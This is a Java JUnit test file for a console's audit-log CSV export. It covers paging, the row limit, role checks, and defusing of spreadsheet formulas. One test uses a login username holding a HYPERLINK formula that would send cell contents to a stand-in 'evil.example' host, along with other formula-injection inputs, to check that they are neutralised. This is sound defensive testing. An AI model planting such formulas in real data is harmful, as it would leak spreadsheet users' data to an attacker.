package io.cdcconsole.audit;

import static io.cdcconsole.test.Eventually.eventually;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.cdcconsole.test.ConsoleTest;
import io.cdcconsole.test.Http;
import io.vertx.core.json.JsonObject;
import java.sql.Connection;
import java.sql.DriverManager;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

class AuditExportTest extends ConsoleTest {

  @Test
  void exportsEveryMatchingRowNotJustAPage() throws Exception {
    // more rows than one export batch (1000), so the keyset paging between batches is exercised
    sql(
        "insert into audit_event (actor_name, action, resource_type, resource_id, outcome, status, detail) "
            + "select 'bulk', 'bulk.write', 'thing', g::text, 'success', 200, jsonb_build_object('n', g) "
            + "from generate_series(1, 2345) g");
    sql(
        "insert into audit_event (actor_name, action, outcome, status) values ('other', 'bulk.write', 'success', 200)");

    Http.Response csv = http.get("/api/v1/audit/export?actor=bulk&action=bulk.*", admin);
    assertEquals(200, csv.status());
    assertTrue(csv.contentType().startsWith("text/csv"), csv.contentType());
    assertTrue(csv.header("Content-Disposition").startsWith("attachment; filename=\"audit-"));
    assertEquals("2345", csv.header("X-Total-Count"));
    List<String> lines = lines(csv.body());
    assertEquals(
        "\"id\",\"at\",\"actor\",\"action\",\"resourceType\",\"resourceId\",\"outcome\",\"status\","
            + "\"clientAddress\",\"detail\"",
        lines.get(0));
    assertEquals(2346, lines.size(), "a header and every matching row");
    Set<String> resourceIds = new HashSet<>();
    long previousId = Long.MAX_VALUE;
    for (String line : lines.subList(1, lines.size())) {
      List<String> cells = cells(line);
      assertEquals("bulk", cells.get(2));
      long id = Long.parseLong(cells.get(0));
      assertTrue(id < previousId, "newest first, no row twice");
      previousId = id;
      resourceIds.add(cells.get(5));
    }
    assertEquals(2345, resourceIds.size());
    assertEquals(
        new JsonObject().put("n", 1), new JsonObject(cells(lines.get(lines.size() - 1)).get(9)));

    assertEquals(
        1,
        lines(http.get("/api/v1/audit/export?since=2999-01-01T00:00:00Z", admin).body()).size(),
        "no match: the header only");
    assertEquals(400, http.get("/api/v1/audit/export?outcome=maybe", admin).status());
  }

  @Test
  void cellsASpreadsheetWouldRunAreDefused() throws Exception {
    String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")";
    http.post(
        "/api/v1/auth/login",
        null,
        new JsonObject().put("username", formula).put("password", "nope-nope-1"));
    eventually(
        () -> http.get("/api/v1/audit?action=session.login&outcome=denied", admin).items(),
        items -> !items.isEmpty());
    String body =
        http.get("/api/v1/audit/export?action=session.login&outcome=denied", admin).body();
    List<String> cells = cells(lines(body).get(1));
    assertEquals(
        "'" + formula, cells.get(2), "a leading apostrophe, quotes doubled in the raw CSV");
    assertTrue(body.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\""));
    for (String risky : List.of("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx")) {
      assertEquals("\"'" + risky + "\"", AuditCsv.cell(risky));
    }
    assertEquals("\"plain\"", AuditCsv.cell("plain"));
    assertEquals("\"\"", AuditCsv.cell(null));
  }

  @Test
  void tooManyRowsAreRefusedNotCut() throws Exception {
    sql(
        "insert into audit_event (actor_name, action, outcome, status) "
            + "select 'flood', 'flood.write', 'success', 200 from generate_series(1, "
            + (AuditRoutes.MAX_EXPORT_ROWS + 1)
            + ")");
    Http.Response refused = http.get("/api/v1/audit/export?actor=flood", admin);
    assertEquals(400, refused.status());
    assertTrue(refused.json().getString("detail").contains("Narrow the filters"), refused.body());
    assertEquals(403, http.get("/api/v1/audit/export", operatorToken()).status());
  }

  private static String operatorToken() {
    http.post(
        "/api/v1/users",
        admin,
        new JsonObject()
            .put("username", "ops-export")
            .put("password", "Ops-Export-Pass-1")
            .put("role", "operator"));
    return http.login("ops-export", "Ops-Export-Pass-1");
  }

  private static void sql(String statement) throws Exception {
    var db = console.config().database();
    try (Connection c =
        DriverManager.getConnection(
            db.url().orElseThrow(), db.user(), db.password().map(s -> s.value()).orElse(""))) {
      c.createStatement().execute(statement);
    }
  }

  /** CSV records (a quoted cell may hold a line break). */
  private static List<String> lines(String csv) {
    List<String> out = new ArrayList<>();
    StringBuilder line = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (c == '"') {
        quoted = !quoted;
      }
      if (!quoted && c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
        out.add(line.toString());
        line.setLength(0);
        i++;
      } else {
        line.append(c);
      }
    }
    assertFalse(quoted, "balanced quotes");
    assertEquals(0, line.length(), "ends with CRLF");
    return out;
  }

  private static List<String> cells(String line) {
    List<String> out = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < line.length(); i++) {
      char c = line.charAt(i);
      if (c == '"') {
        if (quoted && i + 1 < line.length() && line.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else {
          quoted = !quoted;
        }
      } else if (c == ',' && !quoted) {
        out.add(cell.toString());
        cell.setLength(0);
      } else {
        cell.append(c);
      }
    }
    out.add(cell.toString());
    return out;
  }
}
